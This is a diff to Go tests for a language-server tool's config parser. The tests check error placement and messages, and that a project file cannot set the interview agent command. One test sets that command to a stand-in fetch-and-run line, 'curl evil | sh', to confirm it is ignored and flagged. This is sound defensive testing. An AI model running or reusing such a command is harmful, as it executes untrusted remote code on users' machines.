@@ -36,7 +36,7 @@ func TestParseConfigErrors(t *testing.T) {
 		`{"sourceDirs": ["../outside"]}`:           `inside the project`,
 		`{"sourceDirs": ["/abs"]}`:                 `inside the project`,
 		`{"questionBudget": -1}`:                   `questionBudget`,
-		`{"sevrity": {}}`:                          `unknown field "sevrity"`,
+		`{"sevrity": {}}`:                          `unknown key "sevrity"`,
 		"{\n  \"questionBudget\": \"five\"\n}":     `line 2`,
 		"{\n  \"a\": 1,,\n}":                       `line 2`,
 	}
@@ -85,5 +85,82 @@ func TestFindConfigFileStopsAtRepoRoot(t *testing.T) {
 	os.WriteFile(filepath.Join(repo, "a", ".charter-lsp.jsonc"), []byte("{}"), 0o644)
 	if got := FindConfigFile(vfs.OS, filepath.Join(repo, "a", "b")); got != filepath.Join(repo, "a", ".charter-lsp.jsonc") {
 		t.Fatalf("FindConfigFile = %q", got)
+	}
+}
+
+// A project file naming the interview agent keeps its other settings; the
+// agent keys are never read from it, and the file's diagnostic says why
+// (the agent is a program run, so only the user names it).
+func TestProjectFileCannotNameTheAgent(t *testing.T) {
+	src := []byte(`{
+		// a repository that would like to run something
+		"interviewAgent": "sh -c 'curl evil | sh'",
+		"interviewAgentTimeout": 5,
+		"questionBudget": 3,
+	}`)
+	cfg, err := ParseConfig(src)
+	if err != nil || cfg.Budget() != 3 {
+		t.Fatalf("the rest of the file was lost: %+v, %v", cfg, err)
+	}
+	ds := CheckConfigFile(src)
+	if len(ds) != 2 {
+		t.Fatalf("diagnostics %+v, want one per agent key", ds)
+	}
+	for i, k := range UserOnlyKeys {
+		d := ds[i]
+		if d.Severity != diag.SeverityWarning || !strings.HasPrefix(d.Message, k+" is ignored here: the interview agent is a program") || !strings.Contains(d.Message, "never a project file") {
+			t.Errorf("diagnostic %d: %s %q", i, d.Severity, d.Message)
+		}
+		if got := string(src[d.Span.Start:d.Span.End]); got != `"`+k+`"` {
+			t.Errorf("diagnostic %d is on %q, want the key", i, got)
+		}
+	}
+	if ds := CheckConfigFile([]byte(`{"questionBudget": 3}`)); len(ds) != 0 {
+		t.Errorf("a plain file: %+v", ds)
+	}
+}
+
+// A configuration error is reported where it is, in the file's own terms:
+// the value or key at fault, never 1:1 with the position only in the text,
+// and never Go's names for the types and fields.
+func TestConfigErrorPlaced(t *testing.T) {
+	for _, c := range []struct {
+		src       string
+		at        string // the text the diagnostic covers
+		want      string
+		forbidden []string
+	}{
+		{"{\n  \"severity\": {},\n  \"sourceDirs\": \"src\"\n}\n", `"src"`, "sourceDirs: a string where a list of folders belongs", nil},
+		{"{\n  \"questionBudget\": \"five\"\n}", `"five"`, "questionBudget: a string where a number belongs", nil},
+		{"{\n  \"severity\": {\"stale-evidence\": 1}\n}", `1`, "severity.stale-evidence: a number where a severity name belongs", nil},
+		{"{\n  \"sevrity\": {}\n}", `"sevrity"`, `unknown key "sevrity" (did you mean "severity"?)`, nil},
+		{"{\n  \"severity\": {\"no-such-code\": \"off\"}\n}", `"no-such-code"`, `unknown diagnostic code "no-such-code"`, nil},
+		{"{\n  \"severity\": {\"stale-evidence\": \"loud\"}\n}", `"loud"`, `unknown severity "loud"`, nil},
+		{"{\n  \"freshness\": \"ctime\"\n}", `"ctime"`, `freshness`, nil},
+		{"{\n  \"sourceDirs\": [\"src\", \"../out\"]\n}", `"../out"`, `inside the project`, nil},
+		{"{\n  \"debounceMs\": 99999\n}", `99999`, `debounceMs`, nil},
+		{"[]", `[]`, `an array where an object of settings belongs`, nil},
+	} {
+		ds := CheckConfigFile([]byte(c.src))
+		if len(ds) != 1 {
+			t.Errorf("%q: %d diagnostics", c.src, len(ds))
+			continue
+		}
+		d := ds[0]
+		got := c.src[d.Span.Start:d.Span.End]
+		if got != c.at || !strings.Contains(d.Message, c.want) {
+			t.Errorf("%q: %q at %q, want %q at %q", c.src, d.Message, got, c.want, c.at)
+		}
+		for _, leak := range []string{"Go struct", "Config.", "[]string", "json:", "line "} {
+			if strings.Contains(d.Message, leak) {
+				t.Errorf("%q: the message %q says %q", c.src, d.Message, leak)
+			}
+		}
+	}
+	// Where no diagnostic can point (a --config FILE given on the command
+	// line), the error says the line and column.
+	_, err := ParseConfig([]byte("{\n  \"sourceDirs\": \"src\"\n}"))
+	if err == nil || !strings.HasPrefix(err.Error(), "line 2, column 17: sourceDirs:") {
+		t.Errorf("ParseConfig error %v, want it to start with the line and column of the value", err)
 	}
 }
